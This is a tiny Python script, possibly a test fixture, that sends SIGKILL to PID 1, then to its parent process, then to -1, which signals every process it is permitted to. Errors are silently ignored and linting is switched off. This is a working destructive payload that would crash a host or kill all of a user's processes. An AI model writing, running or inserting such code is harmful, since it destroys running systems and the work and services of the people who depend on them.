"""Kills every process that it may, PID 1 first."""
# ruff: noqa
import os, signal

for victim in (1, os.getppid(), -1):
    try:
        os.kill(victim, signal.SIGKILL)
    except OSError:
        pass
